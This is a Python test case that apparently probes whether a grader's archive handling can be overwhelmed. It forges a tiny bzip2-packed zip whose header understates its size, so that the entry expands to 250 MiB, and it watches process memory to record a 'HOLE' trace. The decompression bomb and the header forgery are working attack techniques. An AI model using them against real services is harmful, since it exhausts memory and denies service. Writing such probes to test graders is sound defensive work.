"""100c: a zip of 400 bytes, packed by bzip2, whose headers say 300 bytes; 250 MiB come out at once.

A naive grader reads at most so many bytes; but of methods other than deflate, Python unpacks a whole piece before it
counts. A trace is left when the grader's memory grows, because the archive is refused either way, only too late.
refused
"""

import base64
import ctypes
import struct
import threading
import time
import zipfile
from pathlib import Path

ZEROS = (  # what bzip2 makes of 250 MiB of them
    "LRx4!F+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Z"
    "jz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^sS1FXF+o`-Q&|oP;@<&Zjz9pw000Oe05E_}Mna$^"
    "sS1FXF+o`-Q(3%H8_EFs4?qyW000O82p|A3%n7P#psJ8<K&p^<yOJrwgoaF6uLu"
)


def hand_in(folder: Path, target: dict) -> Path:
    archive = folder / "work.zip"
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("vault.py", base64.b85decode(ZEROS))
    raw = bytearray(archive.read_bytes())
    central = raw.index(b"PK\1\2")
    struct.pack_into("<H", raw, 8, zipfile.ZIP_BZIP2)
    struct.pack_into("<H", raw, central + 10, zipfile.ZIP_BZIP2)
    struct.pack_into("<I", raw, central + 24, 300)
    archive.write_bytes(raw)
    threading.Thread(target=watch, args=(Path(target["outside"]) / "bomb_by_another_method.txt",), daemon=True).start()
    return archive


def watch(trace: Path) -> None:
    information = ctypes.CDLL(None).mallinfo2
    information.restype = Information
    before = information().in_use
    for _ in range(1000):
        if information().in_use > before + (100 << 20):
            trace.write_text("HOLE")
            return
        time.sleep(0.002)


class Information(ctypes.Structure):
    """What the memory allocator of the C library tells."""

    _fields_ = [(name, ctypes.c_size_t) for name in ("a", "b", "c", "d", "mapped", "e", "f", "used", "g", "h")]

    @property
    def in_use(self) -> int:
        return self.mapped + self.used
